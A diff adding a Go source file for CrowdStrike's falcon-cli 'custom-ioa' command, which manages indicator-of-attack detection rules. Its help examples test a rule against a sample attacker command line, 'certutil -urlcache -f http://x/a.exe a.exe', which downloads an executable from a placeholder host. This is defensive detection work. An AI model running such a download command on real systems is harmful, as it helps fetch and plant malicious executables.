@@ -0,0 +1,72 @@
+// Copyright (c) 2022 CrowdStrike, Inc.
+//
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+//
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+//
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+
+package customioa
+
+import (
+	"github.com/crowdstrike/falcon-cli/pkg/cmd/customioa/group"
+	"github.com/crowdstrike/falcon-cli/pkg/cmd/customioa/platforms"
+	"github.com/crowdstrike/falcon-cli/pkg/cmd/customioa/rule"
+	"github.com/crowdstrike/falcon-cli/pkg/cmd/customioa/ruletypes"
+	"github.com/crowdstrike/falcon-cli/pkg/factory"
+	"github.com/spf13/cobra"
+	"k8s.io/kubectl/pkg/util/templates"
+)
+
+var (
+	shortDesc = `Manage custom IOA rule groups and rules`
+	longDesc  = templates.LongDesc(`
+		Manage custom indicator of attack (IOA) rules, which detect or block
+		activity matching regular expressions on fields of process, file,
+		network and domain events.
+
+		Rules belong to rule groups of one platform. A rule group takes
+		effect once it is enabled and assigned to a prevention policy.
+
+		Rules are kept as YAML specifications so that they can be reviewed
+		and tested locally before they are added.`)
+	examples = templates.Examples(`
+		# List the rule types of Windows with the fields their rules match on
+		falcon custom-ioa rule-types --platform windows
+
+		# Test a rule against sample command lines, then add it
+		falcon custom-ioa rule test certutil.yaml --command-line "certutil -urlcache -f http://x/a.exe a.exe"
+		falcon custom-ioa rule add certutil.yaml
+	`)
+)
+
+// NewCustomIOACmd represents the custom-ioa command
+func NewCustomIOACmd(f *factory.Factory) *cobra.Command {
+	cmd := &cobra.Command{
+		Use:     "custom-ioa <command>",
+		Short:   shortDesc,
+		Long:    longDesc,
+		Example: examples,
+		Aliases: []string{"customioa"},
+	}
+
+	cmd.AddCommand(
+		platforms.NewCmdPlatforms(f),
+		ruletypes.NewCmdRuleTypes(f),
+		group.NewCmdGroup(f),
+		rule.NewCmdRule(f),
+	)
+	return cmd
+}